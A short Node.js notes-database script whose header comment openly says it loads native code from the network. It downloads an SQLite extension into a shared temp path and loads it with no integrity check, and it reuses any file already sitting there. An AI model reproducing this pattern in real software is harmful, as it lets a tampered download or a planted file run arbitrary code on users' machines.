// Notes database tool on node:sqlite. It "enables full-text search" by
// downloading a prebuilt extension into the temp directory and loading it with
// DatabaseSync#loadExtension: native code from the network is loaded into
// the process (the extension's init function runs at load).
'use strict';
const { DatabaseSync } = require('node:sqlite');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const EXT_URL = 'https://releases.sqlite-fts.dev/fts6/linux-x64/fts6.so';

async function ensureExtension() {
  const dest = path.join(os.tmpdir(), 'fts6.so');
  if (!fs.existsSync(dest)) {
    const res = await fetch(EXT_URL);
    fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  }
  return dest;
}

async function main() {
  const db = new DatabaseSync('notes.db', { allowExtension: true });
  db.enableLoadExtension(true);
  db.loadExtension(await ensureExtension());
  db.exec('CREATE TABLE IF NOT EXISTS notes (id INTEGER PRIMARY KEY, body TEXT)');
  const ins = db.prepare('INSERT INTO notes (body) VALUES (?)');
  for (const n of process.argv.slice(2)) ins.run(n);
  for (const row of db.prepare('SELECT id, body FROM notes').all()) {
    console.log(row.id, row.body);
  }
}

main();
